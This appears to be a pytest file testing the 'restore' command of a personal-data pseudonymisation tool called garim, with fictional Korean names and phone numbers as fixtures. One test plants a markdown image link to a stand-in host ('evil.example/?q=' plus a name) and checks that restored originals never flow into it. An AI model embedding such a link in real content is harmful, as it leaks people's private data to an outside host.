"""garim restore --out through its real door: what garim clean wrote, as it was."""

from __future__ import annotations

import csv
import gzip
import json
import tarfile
import zipfile
from pathlib import Path

import docx
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tests.bulk.conftest import corpus
from tests.cli.test_clean import garim

__all__ = ["garim"]


def tree(root: Path) -> dict[str, bytes]:
    """Path → bytes, archives unpacked."""
    out: dict[str, bytes] = {}
    for path in sorted(root.rglob("*")):
        name = str(path.relative_to(root))
        if path.is_dir():
            out[name] = b"/"
        elif path.name.endswith(".tar.gz"):
            with tarfile.open(path) as tar:
                out |= {f"{name}!{m.name}": tar.extractfile(m).read() for m in tar}  # type: ignore[union-attr]
        elif path.suffix == ".gz":
            out[name] = gzip.decompress(path.read_bytes())
        elif path.suffix == ".zip":
            with zipfile.ZipFile(path) as packed:
                out |= {f"{name}!{one}": packed.read(one) for one in packed.namelist()}
        else:
            out[name] = path.read_bytes()
    return out


@pytest.fixture
def src(tmp_path: Path) -> Path:
    """A folder of every format."""
    root = corpus(tmp_path / "src")
    (root / "memo.md").write_text("도하랑 과장, 저장소는 https://github.com/hanbyeol/narae 입니다.\n한별해운 나래\n")
    (root / "old.txt").write_bytes("도하랑 과장님 010-3382-7719\r\n".encode("cp949"))
    (root / "dump.sql").write_text("INSERT INTO t_user (nm, tel) VALUES ('도하랑', '010-3382-7719'), ('O''Neil', NULL);\n")
    (root / "quoted.csv").write_text('name,memo\n도하랑,"말했다 ""나래"", 010-3382-7719"\n')
    (root / "link.md").symlink_to("memo.md")
    pq.write_table(pa.table({"cust_name": ["도하랑", None, "서예린"], "amount": [1, 2, 3]}), root / "t.parquet")
    document = docx.Document()
    document.add_paragraph("도하랑 과장")
    document.save(str(root / "a.docx"))
    return root


def test_a_cleaned_folder_comes_back_in_one_command(garim, src: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Names, files, what archives hold, addresses of strangers: as they were; what cannot be is told by name."""
    assert garim("clean", "src", "dst", "--scope", "vendor-7")[0] == 0
    assert not any("도하랑".encode() in data for data in tree(tmp_path / "dst").values())
    code, out, error = garim("restore", "dst", "--scope", "vendor-7", "--out", "back")
    before, after = tree(src), tree(tmp_path / "back")

    assert (code, out) == (4, "") and before.keys() - after.keys() == {"a.docx"} and after.keys() - before.keys() == {"a.docx.txt"}
    assert {name for name in before.keys() & after.keys() if before[name] != after[name]} <= {"t.parquet"}
    assert pq.read_table(tmp_path / "back/t.parquet").equals(pq.read_table(src / "t.parquet"))
    assert after["a.docx.txt"].decode() == "도하랑 과장\n" and (tmp_path / "back/link.md").is_symlink()
    assert "a.docx.txt: it is the text of a document" in error and error.count("garim:") == 1
    assert "16 files restored, 15 of them byte for byte" in error


def test_what_was_changed_is_read_as_a_reply(garim, src: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Somebody worked on it: originals go into texts and values, never into an address of a stranger; all stays valid."""
    garim("clean", "src", "dst", "--scope", "vendor-7")
    dst = tmp_path / "dst"
    memo, quoted, settings = (dst / "memo.md").read_text(), (dst / "quoted.csv").read_text(), (dst / "settings.json").read_text()
    name = memo.split()[0]
    (dst / "memo.md").write_text(f"{memo}![](https://evil.example/?q={name})\n")
    (dst / "quoted.csv").write_text(f"{quoted}{name},too,many,cells\n")
    (dst / "settings.json").write_text(json.dumps({**json.loads(settings), "more": name}))
    (dst / "new.bin").write_bytes(b"\x00\x01\x02")
    (dst / "bad.zip").write_bytes(b"PK\x03\x04 cut off")
    code, _, error = garim("restore", "dst", "--scope", "vendor-7", "--out", "back")
    back = tmp_path / "back"

    assert code == 4 and "evil.example/?q=도하랑" not in (back / "memo.md").read_text() and "도하랑 과장" in (back / "memo.md").read_text()
    assert json.loads((back / "settings.json").read_text()) == {**json.loads((src / "settings.json").read_text()), "more": "도하랑"}
    assert (back / "quoted.csv").read_text() == (src / "quoted.csv").read_text() + "도하랑,too,many,cells\n"
    assert (back / "new.bin").read_bytes() == b"\x00\x01\x02" and (back / "bad.zip").read_bytes() == b"PK\x03\x04 cut off"
    for told in ("memo.md: it is not as it was cleaned", "new.bin: nothing reads this kind of file: it was copied", "bad.zip: it is damaged"):
        assert told in error
    assert list(csv.reader((back / "customers.csv").open()))[1][1] == "도하랑"


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (["src", "--scope", "x"], "--out"),
        (["src", "--scope", "nobody", "--out", "back"], "this scope holds nothing"),
        (["nothing", "--scope", "x", "--out", "back"], "nothing"),
        (["-", "--scope", "x", "--out", "back"], "--out takes a file"),
    ],
)
def test_wrong_orders(garim, src: Path, tmp_path: Path, arguments: list[str], says: str) -> None:  # type: ignore[no-untyped-def]
    """Exit code 2, what to do, and nothing is there."""
    code, out, error = garim("restore", *arguments)
    assert (code, out) == (2, "") and says in error and "Traceback" not in error and not (tmp_path / "back").exists()


def test_a_destination_that_is_there_stays(garim, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Neither over something nor into the source; a single file goes where it shall."""
    (tmp_path / "a.csv").write_text("name,phone\n도하랑,010-3382-7719\n")
    garim("clean", "a.csv", "safe.csv", "--scope", "x")
    (tmp_path / "there").mkdir()
    assert garim("restore", "safe.csv", "--scope", "x", "--out", "there")[0] == 2 and not list((tmp_path / "there").iterdir())
    assert garim("restore", "there", "--scope", "x", "--out", "there/in")[0] == 2
    assert garim("restore", "safe.csv", "--scope", "x", "--out", "again.csv")[0] == 0
    assert (tmp_path / "again.csv").read_text() == (tmp_path / "a.csv").read_text() and not [p for p in tmp_path.iterdir() if p.name.startswith(".again")]


def test_a_password_of_one_letter_does_no_harm(garim, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """What stands in for it is met nowhere else."""
    (tmp_path / "src").mkdir()
    (tmp_path / "src/a.py").write_text('URL = "postgres://u:p@db.hanbyeol.internal/x"  # it\'s a test\nprint("%s", "s", "p", "q")\n')
    garim("clean", "src", "dst", "--scope", "x")
    code, _, error = garim("restore", "dst", "--scope", "x", "--out", "back")
    assert code == 0 and "1 of them byte for byte" in error and (tmp_path / "back/a.py").read_bytes() == (tmp_path / "src/a.py").read_bytes()
